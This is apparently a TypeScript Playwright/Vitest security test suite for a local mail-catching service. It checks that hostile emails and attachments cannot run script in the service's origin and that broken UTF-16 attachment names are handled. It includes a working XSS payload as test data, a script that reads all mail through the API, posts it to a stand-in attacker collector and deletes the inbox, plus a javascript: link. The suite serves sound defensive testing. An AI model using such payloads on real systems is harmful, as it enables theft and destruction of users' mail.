import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, mailFrame, watchErrors } from './inbox-support.js'
import { startSvc, type TestSvc } from './support/svc.js'

/*
 * What a hostile mail can make the inbox open: its links, its attachments.
 * Nothing of it may run script in svc's origin, where the API is.
 */

let browser: Browser
let t: TestSvc
/** The attacker's collector: any request reaching it means a script of the mail ran. */
let collector: Server
let collected: string[]
let collectorUrl: string

beforeAll(async () => {
  collected = []
  collector = createServer((req, res) => {
    collected.push(`${req.method} ${req.url}`)
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`
  browser = await launchBrowser()
  t = await startSvc()
})

afterAll(async () => {
  await t?.stop()
  await browser?.close()
  await new Promise((resolve) => collector?.close(resolve))
})

/** What the attachment's script does once it runs in svc's origin: read every mail, send it out, wipe the inbox. */
const stealer = () =>
  `<script>fetch('../../../email').then((r) => r.text()).then((all) => fetch('${collectorUrl}/loot', { method: 'POST', body: all, mode: 'no-cors' }))` +
  `.finally(() => fetch('../../../email/all', { method: 'DELETE' }))</script><p>invoice</p>`

/** A message whose HTML links, relative to `/api/email/<id>/html`, to its own attachment and to its source. */
function hostileMail(attachmentType: string): string {
  return [
    'From: billing@example.com',
    'To: rcpt@example.com',
    'Subject: Your invoice',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p><a id="invoice" href="attachment/invoice.html" target="_blank">Open your invoice</a></p>',
    '<p><a id="source" href="source" target="_blank">View source</a></p>',
    '--b',
    `Content-Type: ${attachmentType}; name="invoice.html"`,
    'Content-Disposition: attachment; filename="invoice.html"',
    '',
    stealer(),
    '--b--',
    '',
  ].join('\r\n')
}

async function sendHostile(attachmentType: string): Promise<string> {
  const { id } = await t.send({ raw: hostileMail(attachmentType) })
  return id
}

describe('attachment headers', () => {
  it.each([
    // A browser takes the last type of a list: served as is, these would be HTML.
    ['application/pdf, text/html', 'application/pdf'],
    ['image/png, text/html', 'image/png'],
    ['text/html, application/pdf', 'text/html'],
    ['image/svg+xml', 'image/svg+xml'],
    ['Image/PNG', 'image/png'],
    ['image/png text/html', 'application/octet-stream'],
    ['text/html/x', 'application/octet-stream'],
  ])('%s is served as %s, sandboxed', async (mailType, servedAs) => {
    const id = await sendHostile(mailType)
    const response = await t.api(`/api/email/${id}/attachment/invoice.html`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe(servedAs)
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox;/)
  })

  it('the source and the download are sandboxed too', async () => {
    const id = await sendHostile('text/plain')
    for (const route of ['source', 'download']) {
      expect((await t.api(`/api/email/${id}/${route}`)).headers.get('content-security-policy'), route).toMatch(/^sandbox;/)
    }
  })

  it('a comma-typed attachment opened on its own in Chromium runs nothing', async () => {
    const id = await sendHostile('application/pdf, text/html')
    const page = await browser.newPage()
    try {
      await page.goto(`${t.baseUrl}/api/email/${id}/attachment/invoice.html`).catch(() => {})
      await page.waitForTimeout(300)
      expect(collected).toEqual([])
      expect((await t.svc.store.counts()).total).toBeGreaterThan(0)
    } finally {
      await page.close()
    }
  })
})

describe('the inbox', () => {
  let page: Page
  beforeAll(async () => {
    page = await browser.newPage()
  })
  afterAll(() => page?.close())

  /** Opens the message in the inbox and clicks one link of its HTML body; resolves the tab the click opened. */
  async function clickInMail(id: string, link: string): Promise<Page> {
    await page.goto(`${t.baseUrl}/#/email/${id}`)
    const frame = await mailFrame(page, id)
    const opened = page.waitForEvent('popup')
    await frame.locator(link).click()
    const popup = await opened
    await popup.waitForLoadState().catch(() => {})
    return popup
  }

  it('a click on the comma-typed attachment linked from the mail runs nothing in svc\'s origin', async () => {
    const id = await sendHostile('application/pdf, text/html')
    const before = (await t.svc.store.counts()).total
    const popup = await clickInMail(id, '#invoice')
    try {
      await popup.waitForTimeout(500)
      expect(collected).toEqual([])
      expect((await t.svc.store.counts()).total).toBe(before)
    } finally {
      await popup.close()
    }
  })

  it('a page of svc\'s own opened from a mail has no origin, so no way to the API', async () => {
    const id = await sendHostile('text/plain')
    for (const link of ['#source', '#invoice']) {
      const popup = await clickInMail(id, link)
      try {
        expect(popup.url()).toMatch(new RegExp(`^${t.baseUrl}/api/email/${id}/(source|attachment/invoice\\.html)$`))
        // The tab left the frame's sandbox: without the route's own sandbox policy it would have svc's origin, and the API with it.
        expect(await popup.evaluate(() => self.origin), link).toBe('null')
      } finally {
        await popup.close()
      }
    }
    expect(collected).toEqual([])
  })

  it('a mail linking to the HTML body of another runs no script as svc', async () => {
    const { id: target } = await t.send({ subject: 'Target', html: '<p>target</p><svg><a href="javascript:alert(1)"><text>x</text></a></svg>' })
    const { id } = await t.send({ subject: 'Pointer', html: `<p><a id="other" href="../${target}/html">Other message</a></p>` })
    const popup = await clickInMail(id, '#other')
    try {
      expect(popup.url()).toBe(`${t.baseUrl}/api/email/${target}/html`)
      expect(await popup.evaluate(() => self.origin)).toBe('null')
      expect(await popup.evaluate(() => (document.querySelector('a') as HTMLAnchorElement).rel)).toBe('noopener noreferrer')
    } finally {
      await popup.close()
    }
  })
})

describe('a link in the HTML view', () => {
  it('opens as an ordinary tab of its own origin, where the linked app runs its script', async () => {
    const app = createServer((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<title>confirm</title><script>document.title = "ran"; window.seen = { referrer: document.referrer, opener: window.opener !== null }</script>`),
    )
    await new Promise<void>((resolve) => app.listen(0, '127.0.0.1', resolve))
    const confirm = `http://127.0.0.1:${(app.address() as AddressInfo).port}/confirm?token=abc`
    // The mail asks for its own target and relation; the inbox decides both.
    const { id } = await t.send({ subject: 'Confirm', html: `<p><a id="confirm" href="${confirm}" target="_self" rel="opener">Confirm your address</a></p>` })
    const page = await browser.newPage()
    try {
      await page.goto(`${t.baseUrl}/#/email/${id}`)
      expect(await page.locator('.mail-note').textContent()).toMatch(/outside svc/)
      const frame = await mailFrame(page, id)
      const opened = page.waitForEvent('popup')
      await frame.locator('#confirm').click()
      const popup = await opened
      await popup.waitForLoadState()
      expect(popup.url()).toBe(confirm)
      expect(await popup.title()).toBe('ran')
      expect(await popup.evaluate(() => (window as unknown as { seen: unknown }).seen)).toEqual({ referrer: '', opener: false })
      await popup.close()
    } finally {
      await page.close()
      await new Promise((resolve) => app.close(resolve))
    }
  })
})

/** An attachment named in UTF-16 whose second character is a lone high surrogate: `a\uD83D.txt` once decoded. */
function brokenNameMail(): string {
  const name = Buffer.from([0, 0x61, 0xd8, 0x3d, 0, 0x2e, 0, 0x74, 0, 0x78, 0, 0x74])
  return [
    'From: a@example.com',
    'To: b@example.com',
    'Subject: Broken attachment name',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    'See the attachment.',
    '--b',
    `Content-Type: text/plain; name="=?UTF-16BE?B?${name.toString('base64')}?="`,
    'Content-Disposition: attachment',
    '',
    'attached text',
    '--b--',
    '',
  ].join('\r\n')
}

describe('the inbox\'s Links tab', () => {
  it('opens a link of the mail in a normal tab, where the app\'s page runs its script', async () => {
    const app = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<title>reset</title><script>document.title = "ran"</script>'))
    await new Promise<void>((resolve) => app.listen(0, '127.0.0.1', resolve))
    const reset = `http://127.0.0.1:${(app.address() as AddressInfo).port}/reset?token=abc`
    const { id } = await t.send({ subject: 'Reset your password', html: `<p><a href="${reset}">Choose a new password</a></p>` })
    const page = await browser.newPage()
    try {
      await page.goto(`${t.baseUrl}/#/email/${id}`)
      await page.locator('.tab[data-tab=links]').click()
      const link = page.locator('.mail-links a')
      expect(await link.textContent()).toBe('Choose a new password')
      expect(await page.locator('.mail-link-href').textContent()).toBe(reset)
      const opened = page.waitForEvent('popup')
      await link.click()
      const popup = await opened
      await popup.waitForLoadState()
      expect(await popup.title()).toBe('ran')
      await popup.close()
    } finally {
      await page.close()
      await new Promise((resolve) => app.close(resolve))
    }
  })
})

describe('an attachment name of broken UTF-16', () => {
  it('keeps its message listed and readable over REST, the attachment reachable by its name', async () => {
    const { id } = await t.send({ raw: brokenNameMail() })
    const summary = await (await t.api('/api/email/summary?limit=200')).json()
    expect(summary.items.map((item: { id: string }) => item.id)).toContain(id)
    const email = await (await t.api(`/api/email/${id}`)).json()
    expect(email.attachments[0].filename).toBe('a\uFFFD.txt')
    const response = await t.api(`/api/email/${id}/attachment/${encodeURIComponent(email.attachments[0].generatedFileName)}`)
    expect(response.status).toBe(200)
    expect(await response.text()).toBe('attached text')
    expect(response.headers.get('content-disposition')).toBe("inline; filename*=UTF-8''a%EF%BF%BD.txt")
  })

  it('opens in the inbox without a script error, with its attachment linked', async () => {
    const { id } = await t.send({ raw: brokenNameMail() })
    const page = await browser.newPage()
    const errors = watchErrors(page)
    try {
      await page.goto(`${t.baseUrl}/#/email/${id}`)
      await page.locator('.message-subject', { hasText: 'Broken attachment name' }).waitFor({ timeout: 10_000 })
      const link = page.locator('.attachment')
      expect(await link.locator('.attachment-name').textContent()).toBe('a\uFFFD.txt')
      const opened = await page.evaluate(async (href) => (await fetch(href)).text(), (await link.getAttribute('href'))!)
      expect(opened).toBe('attached text')
      expect(errors).toEqual([])
    } finally {
      await page.close()
    }
  })
})
